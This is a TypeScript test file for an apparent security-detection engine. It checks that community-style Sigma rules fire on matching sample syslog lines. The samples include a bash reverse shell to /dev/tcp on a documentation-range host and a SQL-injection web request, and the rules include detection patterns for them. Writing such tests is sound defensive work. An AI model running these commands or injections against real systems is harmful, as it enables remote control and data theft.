import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { normalizeSyslog, ParserRegistry } from '@vigil/edge';
import { BUILTIN_PIPELINES_DIR, DetectionEngine, formatProblem, parseRuleSources } from '@vigil/engine';
import { describe, expect, it } from 'vitest';

/**
 * Sigma rules written the way the Sigma community writes them, for Sigma's own logsources and
 * field names (W3C names for web servers, the firewall and network taxonomies, auditd's record
 * keys), detect on the events Vigil's edge makes of real-looking lines, through Vigil's own
 * pipelines and nothing mapped by hand.
 */

const RULES = `
title: SQL injection in a web request
id: community-web-sqli
logsource: {category: webserver}
detection:
  select:
    cs-uri-query|contains: ['union%20select', 'union select']
  condition: select
---
title: Admin page probed through the load balancer
id: community-proxy-admin
logsource: {category: proxy}
detection:
  select:
    c-uri|startswith: /admin
    sc-status: 403
  condition: select
---
title: Inbound SSH dropped by the firewall
id: community-fw-ssh
logsource: {category: firewall}
detection:
  select:
    dst_port: 22
    src_ip|cidr: 203.0.113.0/24
  condition: select
---
title: Outbound DNS over UDP to the internet
id: community-net-dns
logsource: {category: network_connection}
detection:
  select:
    DestinationPort: 53
    Protocol: udp
  condition: select
---
title: Shell spawned by sudo
id: community-sudo-shell
logsource: {product: linux, category: process_creation}
detection:
  select:
    Image|endswith: ['/bash', '/sh']
    User: alice
  condition: select
---
title: Reverse shell by auditd EXECVE
id: community-auditd-revshell
logsource: {product: linux, service: auditd}
detection:
  select:
    type: EXECVE
    a0: bash
    a2|contains: /dev/tcp/
  condition: select
---
title: Root login refused by sshd
id: community-sshd-root
logsource: {product: linux, service: sshd}
detection:
  keywords:
    - 'Failed password for root'
  condition: keywords
`;

const LINES: Record<string, string> = {
  'community-web-sqli': '<190>Nov 24 10:00:00 web-1 nginx: 203.0.113.9 - - [24/Nov/2026:10:00:00 +0000] "GET /item.php?id=1%20union%20select%20password%20from%20users HTTP/1.1" 200 612 "-" "curl/8.5.0"',
  'community-proxy-admin':
    '<134>Nov 24 10:00:01 lb-1 haproxy[801]: 2001:db8::42:40100 [24/Nov/2026:10:00:01.004] fe_http be_app/<NOSRV> 0/-1/-1/-1/0 403 192 - - PR-- 1/1/0/0/0 0/0 {app.example.com|curl/8.5.0} {} "POST /admin HTTP/1.1"',
  'community-fw-ssh':
    '<4>Nov 24 10:00:02 fw01 kernel: [12345.678901] IPTABLES-DROP: IN=eth0 OUT= MAC=00:16:3e:aa:bb:cc:00:16:3e:dd:ee:ff:08:00 SRC=203.0.113.5 DST=10.0.0.2 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=0 DF PROTO=TCP SPT=51234 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0',
  'community-net-dns':
    '<189>Nov 24 10:00:03 fgt date=2026-11-24 time=10:00:03 devname="FGT-HQ" devid="FG100FTK9999" tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.0.0.6 dstip=203.0.113.81 action="accept" proto=17 dstport=53',
  'community-sudo-shell': '<86>Nov 24 10:00:04 db-2 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash',
  'community-auditd-revshell': '<14>Nov 24 10:00:05 web01 audisp-syslog: type=EXECVE msg=audit(1795514405.123:4567): argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"',
  'community-sshd-root': '<38>Nov 24 10:00:06 web-1 sshd[24012]: Failed password for root from 203.0.113.7 port 52814 ssh2',
};

async function pipelineSources() {
  const names = (await readdir(BUILTIN_PIPELINES_DIR)).filter((name) => name.endsWith('.yml'));
  return Promise.all(names.map(async (name) => ({ file: name, text: await readFile(join(BUILTIN_PIPELINES_DIR, name), 'utf8') })));
}

describe("community Sigma rules on the edge's events", async () => {
  const { ruleset, problems } = parseRuleSources([{ file: 'community.yml', text: RULES }], await pipelineSources());
  const parsers = new ParserRegistry();
  const receivedAt = '2026-11-24T10:00:10.000Z';

  it('load through the built-in pipelines', () => {
    expect(problems.map(formatProblem)).toEqual([]);
    expect(ruleset.detections).toHaveLength(Object.keys(LINES).length);
  });

  it('each fire on their own line and on no other', () => {
    const fired: Record<string, string[]> = {};
    let line = '';
    const engine = new DetectionEngine(ruleset, { onHit: (hit) => (fired[line] ??= []).push(hit.rule.id) });
    for (const raw of Object.values(LINES)) {
      line = raw;
      const { event, status } = normalizeSyslog(raw, receivedAt, 'syslog_tcp', parsers, Date.parse(receivedAt));
      expect(status, raw).toBe('parsed');
      engine.process(event);
    }
    expect(Object.fromEntries(Object.entries(LINES).map(([id, raw]) => [id, fired[raw] ?? []]))).toEqual(Object.fromEntries(Object.keys(LINES).map((id) => [id, [id]])));
  });
});
